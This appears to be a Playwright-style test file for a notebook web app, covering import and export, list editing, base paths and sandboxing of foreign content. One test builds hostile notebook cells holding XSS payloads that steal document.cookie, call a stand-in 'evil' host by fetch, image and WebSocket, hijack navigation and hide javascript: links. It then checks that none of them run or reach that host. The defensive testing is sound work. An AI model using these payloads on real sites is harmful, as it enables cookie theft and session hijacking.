// Notebooks as files, the list of notebooks, and content of foreign origin.

import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import { readFile } from 'node:fs/promises';
import { after, before, test } from 'node:test';

import { launch, Person, Server, until } from './server.mjs';

const SHARED = process.env.COSCRIBE_SHARED ?? ['../../data', '../../../shared/data', '../../../../shared/data'].map((path) => new URL(path, import.meta.url).pathname);
let server;
let browser;
before(async () => {
  [server, browser] = await Promise.all([Server.start(), launch()]);
});
after(async () => {
  await browser?.close();
  await server?.stop();
});

/** The notebooks lie beside the repository, or in it. */
async function sample(name) {
  for (const folder of [SHARED].flat()) {
    const path = `${folder}/notebooks/${name}`;
    if (await readFile(path).then(() => true, () => false)) return path;
  }
  throw new Error(`${name} was not found; set COSCRIBE_SHARED to the folder that holds notebooks/`);
}

test('tools_numpy_is_imported_through_the_page_and_its_export_has_every_cell', async () => {
  const ana = await Person.arrive(browser, server, 'Ana');
  await ana.page.goto(server.url);
  const path = await sample('tools_numpy.ipynb');
  const file = (name, buffer) => ({ name, mimeType: 'application/json', buffer });
  await ana.page.setInputFiles('input[type=file]', [file('tools_numpy.ipynb', await readFile(path)), file('broken.ipynb', Buffer.from('{"cells": ['))]);
  const imports = ana.page.getByRole('list', { name: 'Imports' });
  await imports.getByRole('alert').waitFor();
  assert.match(await imports.getByRole('alert').textContent(), /\w+ .*\./);
  await imports.getByRole('link', { name: 'Open' }).click();
  await ana.state('saved');
  assert.equal((await ana.cells()).length, 312);
  const [download] = await Promise.all([ana.page.waitForEvent('download'), ana.page.getByRole('link', { name: 'Export as .ipynb' }).click()]);
  const exported = JSON.parse(await readFile(await download.path(), 'utf8'));
  const original = JSON.parse(await readFile(path, 'utf8'));
  const sources = (notebook) => notebook.cells.map((cell) => [cell.cell_type, [cell.source].flat().join('')]);
  assert.deepEqual(sources(exported), sources(original));
  assert.equal(exported.nbformat, 4);
  // Chromium itself reports the refused file.
  assert.deepEqual(ana.errors.filter((error) => !/status of 422/.test(error)), []);
  await ana.leave();
});

test('the_list_creates_searches_renames_deletes_and_takes_the_deletion_back', async () => {
  await server.notebook('Alpha one', []);
  await server.notebook('Beta two', []);
  const ana = await Person.arrive(browser, server, 'Ana');
  await ana.page.goto(server.url);
  const list = ana.page.getByRole('list', { name: 'Notebooks' });
  await ana.page.getByLabel('Search notebooks').fill('one alp');
  await until(async () => (await list.getByRole('listitem').count()) === 1);
  await list.getByRole('button', { name: 'Rename Alpha one' }).click();
  await ana.page.getByLabel('Title').fill('Alpha uno');
  await ana.page.keyboard.press('Enter');
  await ana.page.getByLabel('Search notebooks').fill('alpha uno');
  await list.getByRole('button', { name: 'Delete Alpha uno' }).click();
  await list.getByText('No title contains').waitFor();
  await ana.page.getByRole('button', { name: 'Undo' }).click();
  await list.getByRole('link', { name: /^Alpha uno/ }).waitFor();
  await list.getByRole('button', { name: 'Delete Alpha uno' }).click();
  await ana.page.getByText('Deleted notebooks').click();
  await ana.page.getByRole('button', { name: 'Restore Alpha uno' }).click();
  await list.getByRole('link', { name: /^Alpha uno/ }).waitFor();
  assert.deepEqual(ana.errors, []);
  await ana.leave();
});

/** A host elsewhere that notes who asks it for anything. */
async function stranger() {
  const asked = [];
  const host = createServer((request, response) => {
    asked.push(request.url);
    response.end('x');
  });
  await new Promise((done) => host.listen(0, '127.0.0.1', done));
  return { asked, url: `http://127.0.0.1:${host.address().port}`, close: () => host.close() };
}

test('ln_08_hostile_notes_and_outputs_neither_run_in_our_origin_nor_ask_anybody_for_anything', async () => {
  const evil = await stranger();
  const attack = (from) => `<script>try { parent.document.title = 'stolen by ${from}' } catch {} try { top.stolen = document.cookie } catch {}
    fetch('${evil.url}/fetch-${from}').catch(() => 0); new Image().src = '${evil.url}/image-${from}';
    try { new WebSocket('${evil.url.replace('http', 'ws')}/socket-${from}') } catch {}
    fetch('${server.url}api/notebooks').then(() => document.body.append('read the API')).catch(() => document.body.append('API refused'));
    document.body.dataset.ran = 'yes';
    try { window.open('${evil.url}/popup-${from}') } catch {} try { top.location = '${evil.url}/top-${from}' } catch {}</script>`;
  const html = `<p id="drawn">drawn</p>${attack('output')}<img src="${evil.url}/img-output"><link rel="stylesheet" href="${evil.url}/css-output"><form action="${evil.url}/form"><input name="a"></form><iframe src="${evil.url}/frame-output"></iframe>`;
  const note = `${attack('note')}\n\n<img src="${evil.url}/img-note" onerror="window.ran = 'note'">\n\n<a href="javascript:window.ran='link'">link</a> <svg onload="window.ran='svg'"></svg>\n\n![x](${evil.url}/md-note)\n\n<iframe src="${evil.url}/frame-note"></iframe><div id="app" style="position:fixed;inset:0">cover</div>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><script>top.ran = 'svg'</script><image href="${evil.url}/svg-image"/><rect width="20" height="20"/></svg>`;
  const notebook = {
    nbformat: 4,
    nbformat_minor: 5,
    metadata: {},
    cells: [
      { id: 'note', cell_type: 'markdown', metadata: {}, source: note },
      { id: 'code', cell_type: 'code', metadata: {}, execution_count: 1, source: 'evil()', outputs: [
        { output_type: 'display_data', metadata: {}, data: { 'text/html': html, 'text/plain': 'fallback' } },
        { output_type: 'display_data', metadata: {}, data: { 'image/svg+xml': svg } },
        { output_type: 'stream', name: 'stdout', text: '\u001b[31m<img src=x onerror="window.ran=1">\u001b[0m \u001b]8;;javascript:window.ran=2\u0007x\u001b]8;;\u0007' },
      ] },
    ],
  };
  const answer = await fetch(`${server.url}api/notebooks/import?title=Evil`, { method: 'POST', body: JSON.stringify(notebook) });
  const { id } = await answer.json();
  const ana = await Person.arrive(browser, server, 'Ana');
  const foreign = [];
  ana.context.on('request', (request) => request.url().startsWith(evil.url) && request.failure() === null && foreign.push(request.url()));
  await ana.page.goto(`${server.url}notebook/${id}`);
  await ana.state('saved');
  const frame = ana.page.frameLocator('iframe[title="Output"]');
  await frame.locator('#drawn').waitFor();
  await frame.locator('body[data-ran="yes"]').waitFor();
  await frame.getByText('API refused').waitFor();
  await ana.cell('note').locator('.markdown').waitFor();
  await ana.page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
  assert.deepEqual(await ana.page.evaluate(() => [window.ran, window.stolen, location.pathname.startsWith('/notebook/'), document.title]), [undefined, undefined, true, 'Evil · Coscribe']);
  assert.deepEqual(evil.asked, []);
  const left = ana.cell('note').locator('.markdown').locator('script, iframe, svg, form, [id], [style], [onerror], [onload]');
  assert.deepEqual(await left.evaluateAll((elements) => elements.map((element) => element.outerHTML)), []);
  assert.equal(ana.context.pages().length, 1);
  await ana.leave();
  evil.close();
});

test('a_script_in_an_output_may_draw_and_its_height_is_taken_within_bounds', async () => {
  const notebook = { nbformat: 4, nbformat_minor: 5, metadata: {}, cells: [
    { id: 'high', cell_type: 'code', metadata: {}, execution_count: 1, source: '', outputs: [{ output_type: 'display_data', metadata: {}, data: { 'text/html': '<div id="t"></div><script>document.getElementById("t").style.height = "90000px"; document.getElementById("t").textContent = "by script"; parent.postMessage({kind: "height", height: -5}, "*"); parent.postMessage({kind: "link", address: "javascript:alert(1)"}, "*")</script>' } }] },
  ] };
  const { id } = await (await fetch(`${server.url}api/notebooks/import?title=High`, { method: 'POST', body: JSON.stringify(notebook) })).json();
  const ana = await Person.arrive(browser, server, 'Ana');
  await ana.page.goto(`${server.url}notebook/${id}`);
  await ana.page.frameLocator('iframe[title="Output"]').getByText('by script').waitFor();
  await until(async () => (await ana.page.locator('iframe[title="Output"]').evaluate((frame) => frame.offsetHeight)) === 2000);
  assert.equal(await ana.page.locator('.toast').count(), 0);
  await ana.leave();
});

test('a_formula_is_set_and_nothing_is_asked_of_a_foreign_host', async () => {
  const { id } = await server.notebook('Formula', [['note', 'It is $e^{i\\pi} = -1$ and costs $5 and $6.']]);
  const ana = await Person.arrive(browser, server, 'Ana');
  const hosts = new Set();
  ana.page.on('request', (request) => hosts.add(new URL(request.url()).host));
  await ana.page.goto(`${server.url}notebook/${id}`);
  await ana.page.locator('.katex').waitFor();
  assert.equal(await ana.page.locator('.katex').count(), 1);
  assert.deepEqual([...hosts].filter((host) => host !== '' && host !== `127.0.0.1:${server.port}`), []);
  assert.deepEqual(ana.errors, []);
  await ana.leave();
});

test('ln_03_everything_works_below_a_base_path', async () => {
  const below = await Server.start({ args: ['--base-path', '/lab/'], base: '/lab/' });
  const { id, cells } = await below.notebook('Below', [['note', '$x^2$'], ['code', 'x']]);
  const ana = await Person.arrive(browser, below, 'Ana');
  const outside = [];
  ana.page.on('request', (request) => new URL(request.url()).pathname.startsWith('/lab/') || outside.push(request.url()));
  await ana.page.goto(below.url);
  await ana.page.getByRole('link', { name: /^Below/ }).click();
  await ana.state('saved');
  assert.equal(new URL(ana.page.url()).pathname, `/lab/notebook/${id}`);
  await ana.page.locator('.katex').waitFor();
  await ana.editor(cells[1]).click();
  await ana.page.keyboard.press('End');
  await ana.page.keyboard.type('y');
  await until(async () => (await below.read(id)).cells.at(-1).source === 'xy');
  await ana.page.evaluate(() => navigator.serviceWorker.ready);
  assert.deepEqual(outside.filter((address) => !address.startsWith('data:')), []);
  assert.deepEqual(ana.errors, []);
  await ana.leave();
  await below.stop();
});

test('the_reference_page_shows_the_rest_interface_and_asks_no_foreign_host', async () => {
  const ana = await Person.arrive(browser, server, 'Ana');
  const hosts = new Set();
  ana.page.on('request', (request) => hosts.add(new URL(request.url()).host));
  await ana.page.goto(`${server.url}api/docs`);
  await ana.page.getByText('/api/notebooks', { exact: true }).first().waitFor();
  assert.deepEqual([...hosts].filter((host) => host !== '' && host !== `127.0.0.1:${server.port}`), []);
  await ana.leave();
});

test('the_first_load_of_script_is_within_its_budget', async () => {
  const { id } = await server.notebook('Light', [['note', 'No formula here.'], ['code', 'x = 1']]);
  const ana = await Person.arrive(browser, server, 'Ana');
  const session = await ana.context.newCDPSession(ana.page);
  await session.send('Network.enable');
  const scripts = new Map();
  session.on('Network.responseReceived', ({ requestId, type, response }) => type === 'Script' && scripts.set(requestId, { url: response.url, size: 0 }));
  session.on('Network.loadingFinished', ({ requestId, encodedDataLength }) => scripts.has(requestId) && (scripts.get(requestId).size = encodedDataLength));
  await ana.open(id);
  await ana.cell((await ana.cells()).at(-1)).locator('.cm-content').waitFor();
  const total = [...scripts.values()].reduce((sum, script) => sum + script.size, 0);
  assert.ok(total > 50_000, 'the scripts were not counted');
  assert.ok(total <= 260_000, `${total} bytes: ${JSON.stringify([...scripts.values()])}`);
  await ana.leave();
});
